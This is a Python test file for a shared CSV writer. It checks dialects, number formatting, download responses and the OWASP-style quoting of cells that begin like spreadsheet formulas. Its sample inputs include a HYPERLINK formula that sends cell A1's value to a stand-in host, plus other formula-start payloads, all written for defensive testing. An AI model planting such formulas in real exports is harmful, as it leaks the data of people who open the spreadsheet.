"""The one CSV writer: its dialects, formula neutralisation (OWASP) and numbers kept as numbers."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from observatoire.core import csv_files
from observatoire.core.csv_files import DATA_INCLUSION, SITE, cell, neutralise, restore

FORMULAS = ['=HYPERLINK("http://x"&A1,"Cliquez ici")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def read(text: str, dialect) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=dialect.delimiter))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_starting_like_a_formula_gets_a_quote(text):
    assert neutralise(text) == "'" + text
    assert cell(text, dialect=SITE) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["", "Hérault", "3919", "a=b", " =x", "'quoted", "[]", "'"])
def test_other_texts_are_left_alone(text):
    assert neutralise(text) == text
    assert restore(text) == text


def test_a_text_already_quoted_before_a_formula_comes_back_as_it_was():
    assert neutralise("'=x") == "''=x"
    assert restore("''=x") == "'=x"
    assert restore("'=x") == "=x"


@given(st.text())
def test_restore_undoes_neutralise_for_every_text(text):
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(csv_files.FORMULA_STARTS)


def test_numbers_stay_numbers_in_the_dialects_notation():
    assert cell(-3, dialect=SITE) == "-3"
    assert cell(Decimal("-1.50"), dialect=SITE) == "-1,50"
    assert cell(Decimal("-1.50"), dialect=DATA_INCLUSION) == "-1.50"
    assert cell(Decimal("1E+2"), dialect=SITE) == "100"
    assert cell(-3.25, dialect=SITE) == "-3,25"
    assert cell(43.6, dialect=DATA_INCLUSION) == "43.6"
    assert cell(None, dialect=SITE) == ""
    assert cell(True, dialect=SITE) == "true" and cell(False, dialect=SITE) == "false"
    assert cell("-3", dialect=SITE) == "'-3"  # a number given as text is text


def test_the_site_dialect_is_the_published_one_of_the_indicators():
    text = csv_files.csv_text(
        header=["nom", "nombre", "taux"], rows=[["=1+1", -3, Decimal("2.5")]], dialect=SITE
    )
    assert text == "nom;nombre;taux\n'=1+1;-3;2,5\n"
    assert SITE.descriptor() == {"delimiter": ";", "header": True, "doubleQuote": True}


def test_the_data_inclusion_dialect_is_comma_and_crlf():
    text = csv_files.csv_text(
        header=["nom", "note"], rows=[["a, b", 'dit "oui"'], ["@x", None]], dialect=DATA_INCLUSION
    )
    assert text == 'nom,note\r\n"a, b","dit ""oui"""\r\n\'@x,\r\n'
    assert read(text, DATA_INCLUSION) == [["nom", "note"], ["a, b", 'dit "oui"'], ["'@x", ""]]


def test_cells_with_line_breaks_read_back_whole():
    rows = [["\rx", "a\nb"], ["-", 1]]
    text = csv_files.csv_text(header=["=h", "b"], rows=rows, dialect=SITE)
    assert read(text, SITE) == [["'=h", "b"], ["'\rx", "a\nb"], ["'-", "1"]]
    lines = list(csv_files.csv_lines(header=["=h", "b"], rows=rows, dialect=SITE))
    assert len(lines) == 3 and "".join(lines) == text


def test_write_csv_writes_into_a_file(tmp_path):
    path = tmp_path / "f.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        csv_files.write_csv(header=["a"], rows=[["+1"], [2]], out=out, dialect=DATA_INCLUSION)
    assert path.read_bytes() == b"a\r\n'+1\r\n2\r\n"


def test_the_responses_are_utf8_attachments(settings):
    response = csv_files.csv_response(
        header=["nom"], rows=[["Béziers"]], filename="f.csv", dialect=SITE
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="f.csv"'
    assert response.content.decode() == "nom\nBéziers\n"
    streamed = csv_files.streaming_csv_response(
        header=["nom"], rows=iter([["=x"]]), filename="g.csv", dialect=SITE
    )
    assert b"".join(streamed.streaming_content).decode() == "nom\n'=x\n"


class FakeExport(csv_files.SpreadsheetCsvMixin):
    """What the mixin expects of Wagtail's SpreadsheetExportMixin."""

    FORMAT_CSV = "csv"
    list_export = ["label", "count"]

    def preprocess_field_value(self, field, value, export_format):
        return value

    def get_heading(self, queryset, field):
        return field.capitalize()

    def to_row_dict(self, item):
        return item

    def get_filename(self):
        return "export"


def test_the_wagtail_mixin_writes_through_the_one_writer():
    view = FakeExport()
    items = [{"label": "=cmd", "count": -2}, {"label": "ok", "count": 3}]
    assert b"".join(view.stream_csv(items)).decode() == "Label;Count\n'=cmd;-2\nok;3\n"
    response = view.write_csv_response(items)
    assert response["Content-Disposition"] == 'attachment; filename="export.csv"'
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=view.list_export)
    view.write_csv_row(writer, {"label": "@x", "count": -1})
    assert out.getvalue() == "'@x,-1\r\n"
